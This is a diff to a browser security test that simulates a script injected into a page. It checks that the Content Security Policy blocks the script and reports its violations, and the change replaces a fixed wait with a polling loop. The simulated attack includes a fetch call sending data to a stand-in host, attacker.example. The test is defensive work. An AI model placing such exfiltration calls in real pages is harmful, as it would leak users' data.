@@ -140,16 +140,21 @@ def test_a_script_that_somebody_slipped_into_a_page_does_not_run(name, page: Pag
     page.evaluate("document.getElementById('slipped').click()")
     page.evaluate("document.getElementById('stolen').submit()")
     page.evaluate("fetch('https://attacker.example/?stolen').catch(() => null)")
-    page.wait_for_timeout(300)
+    expected = {
+        *("script-src-elem", "script-src-attr", "style-src-attr", "form-action", "base-uri", "connect-src"),
+        *("object-src",),
+    }
+    refused: set[str] = set()
+    for _ in range(100):  # each is reported when the browser has the time
+        page.wait_for_timeout(100)
+        refused |= {report.split()[1] for report in reports.taken().splitlines() if report.startswith("VIOLATION")}
+        if expected <= refused:
+            break
 
     assert page.evaluate("window.taken ?? null") is None
     assert page.url == demo_district + pages_of(UserRole.NURSE)[name]
     assert page.evaluate("document.baseURI").startswith(demo_district)
-    refused = {report.split()[1] for report in reports.taken().splitlines() if report.startswith("VIOLATION")}
-    assert {
-        *("script-src-elem", "script-src-attr", "style-src-attr", "form-action", "base-uri", "connect-src"),
-        *("object-src",),
-    } <= refused
+    assert expected <= refused
 
 
 def test_on_a_page_without_alpine_nobody_compiles_code(page: Page, demo_district):
